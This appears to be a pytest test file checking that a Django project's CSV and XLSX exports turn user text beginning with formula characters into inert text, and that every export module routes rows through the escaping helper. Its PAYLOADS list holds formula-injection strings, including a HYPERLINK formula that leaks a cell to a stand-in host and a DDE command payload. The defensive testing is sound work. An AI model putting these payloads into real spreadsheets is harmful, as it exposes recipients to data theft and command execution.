"""No text a user typed becomes a live formula in a CSV or XLSX export (issue #10, item 9).

Each dangerous start (= + - @ tab, carriage return) goes through each export and is read back: with
openpyxl the cell is a string (data type 's') starting with an apostrophe, and in the CSV it starts with an
apostrophe. Numbers stay numbers. The last tests read every module under polku/ that writes CSV or XLSX and
fail when one writes a row without the helper, or an XLSX file otherwise than through polku.core.xlsx.
"""

from __future__ import annotations

import ast
import csv
import io
from datetime import date, datetime
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import pytest
from django.urls import reverse
from openpyxl import load_workbook

import polku
from polku.core.exports import spreadsheet_safe
from polku.reporting import effectiveness_export, monitoring_exports
from tests.conftest import World
from tests.structural.conftest import HELSINKI, read_report

PAYLOADS = [
    '=HYPERLINK("https://evil.example/?d="&A1,"Klikkaa")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_text_starting_with_a_formula_character_is_made_text(payload: str) -> None:
    assert spreadsheet_safe(payload) == "'" + payload


@pytest.mark.parametrize("value", [-5, -2.5, 0, 3, None, date(2026, 1, 1), "Asuminen", "5-6", "<5", "×", ""])
def test_numbers_dates_and_ordinary_text_are_kept_as_they_are(value: Any) -> None:
    assert spreadsheet_safe(value) == value


def _xlsx_cells(content: bytes) -> list[Any]:
    book = load_workbook(io.BytesIO(content))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def _assert_xlsx_safe(content: bytes, payload: str) -> None:
    cells = [c for c in _xlsx_cells(content) if isinstance(c.value, str) and payload.strip() in c.value]
    assert cells, "the payload is in the file"
    for cell in cells:
        assert cell.data_type == "s", cell.value
        assert cell.value.startswith("'"), cell.value


def _csv_cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text.lstrip("\ufeff")), delimiter=";") for cell in row]


def _assert_csv_safe(text: str, payload: str) -> None:
    cells = [c for c in _csv_cells(text) if payload.strip() in c]
    assert cells, "the payload is in the file"
    assert all(cell.startswith("'") for cell in cells), cells


def _streamed(response: Any) -> bytes:
    return b"".join(response.streaming_content)


@pytest.mark.django_db
@pytest.mark.parametrize("payload", PAYLOADS)
def test_the_half_year_summary_xlsx_writes_a_formula_title_as_text(
    world: World, client: Any, payload: str
) -> None:
    read_report(
        world,
        themes=["housing"],
        submitted=datetime(2025, 3, 10, 12, tzinfo=HELSINKI),
        title=payload,
        proposed_measures=payload,
    )
    client.force_login(world.analyst)
    place = {"municipality_id": world.team.municipality.pk, "half_year": "2025H1"}
    url = reverse("structural:summary_xlsx", kwargs=place)
    response = client.get(url, {"lang": "fi"})
    assert response.status_code == 200
    _assert_xlsx_safe(response.content, payload)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_the_monitoring_exports_write_a_formula_as_text_and_numbers_as_numbers(payload: str) -> None:
    rows = [["Team", "Clients"], [payload, -3]]
    _assert_csv_safe(_streamed(monitoring_exports.csv_response(rows, "x.csv")).decode(), payload)
    xlsx = _streamed(monitoring_exports.xlsx_response(rows, "x.xlsx", sheet="ESR"))
    _assert_xlsx_safe(xlsx, payload)
    numbers = [c for c in _xlsx_cells(xlsx) if c.value == -3]
    assert numbers and numbers[0].data_type == "n"


@pytest.mark.parametrize("payload", PAYLOADS)
def test_the_effectiveness_exports_write_a_formula_as_text(
    payload: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(effectiveness_export, "rows", lambda report: iter([["Group", "n"], [payload, -1.5]]))
    report: Any = SimpleNamespace(
        instrument=SimpleNamespace(code="x"), start=date(2026, 1, 1), end=date(2026, 6, 30), by="all"
    )
    _assert_csv_safe(_streamed(effectiveness_export.csv_response(report)).decode(), payload)
    xlsx = _streamed(effectiveness_export.xlsx_response(report))
    _assert_xlsx_safe(xlsx, payload)
    assert [c.data_type for c in _xlsx_cells(xlsx) if c.value == -1.5] == ["n"]


def test_a_control_character_xlsx_cannot_hold_does_not_break_the_file() -> None:
    xlsx = _streamed(monitoring_exports.xlsx_response([["a\x01b", "\x02=1+1"]], "x.xlsx", sheet="x"))
    assert [c.value for c in _xlsx_cells(xlsx)] == ["ab", "'=1+1"]


# --- every export uses the helper ---------------------------------------------------------------------


def _export_modules() -> dict[Path, ast.Module]:
    root = Path(polku.__file__).parent
    found = {}
    for path in sorted(root.rglob("*.py")):
        text = path.read_text()
        if "csv.writer" in text or "Workbook(" in text or "csv.DictWriter" in text:
            found[path.relative_to(root.parent)] = ast.parse(text)
    return found


def _called(node: ast.AST) -> str:
    func = node.func if isinstance(node, ast.Call) else None
    if isinstance(func, ast.Attribute):
        return func.attr
    if isinstance(func, ast.Name):
        return func.id
    return ""


def _unsafe_writes(tree: ast.Module) -> list[int]:
    """Lines that write a row to a csv writer (writerow/writerows) or a sheet (append on a name bound to
    create_sheet/active) with anything but the helper's csv_row/xlsx_row."""
    sheets = {
        target.id
        for node in ast.walk(tree)
        if isinstance(node, ast.Assign)
        and isinstance(node.value, ast.Call | ast.Attribute)
        and (_called(node.value) == "create_sheet" or getattr(node.value, "attr", "") == "active")
        for target in node.targets
        if isinstance(target, ast.Name)
    }
    bad = []
    for node in ast.walk(tree):
        if not isinstance(node, ast.Call) or not isinstance(node.func, ast.Attribute):
            continue
        name = node.func.attr
        receiver = node.func.value
        first = _called(node.args[0]) if node.args else ""
        row_to_csv = name == "writerows" or (name == "writerow" and first != "csv_row")
        row_to_sheet = name == "append" and isinstance(receiver, ast.Name) and receiver.id in sheets
        if row_to_csv or (row_to_sheet and first != "xlsx_row"):
            bad.append(node.lineno)
    return bad


def test_every_csv_and_xlsx_export_writes_its_rows_through_the_helper() -> None:
    modules = _export_modules()
    # The ones known today; a new export shows up here and must pass the same check.
    assert {
        Path("polku/reporting/monitoring_exports.py"),  # the reports' writers, effectiveness's too
    } <= set(modules)
    assert {str(path): _unsafe_writes(tree) for path, tree in modules.items() if _unsafe_writes(tree)} == {}


def test_the_enumeration_catches_an_export_that_skips_the_helper() -> None:
    tree = ast.parse(
        "import csv\nw = csv.writer(f)\nw.writerow(row)\nsheet = book.create_sheet('x')\nsheet.append(row)\n"
        "w.writerow(csv_row(row))\nsheet.append(xlsx_row(sheet, row))\n"
    )
    assert _unsafe_writes(tree) == [3, 5]


def test_every_xlsx_file_is_written_by_the_one_writer() -> None:
    """polku.core.xlsx makes every text cell safe and writes no formulas: no other module writes XLSX with a
    library of its own (openpyxl, XlsxWriter) or builds a sheet's XML."""
    root = Path(polku.__file__).parent
    writers = {
        str(path.relative_to(root.parent))
        for path in root.rglob("*.py")
        if any(word in path.read_text() for word in ("openpyxl", "xlsxwriter", "Workbook(", "<sheetData"))
    }
    assert writers == {"polku/core/xlsx.py"}
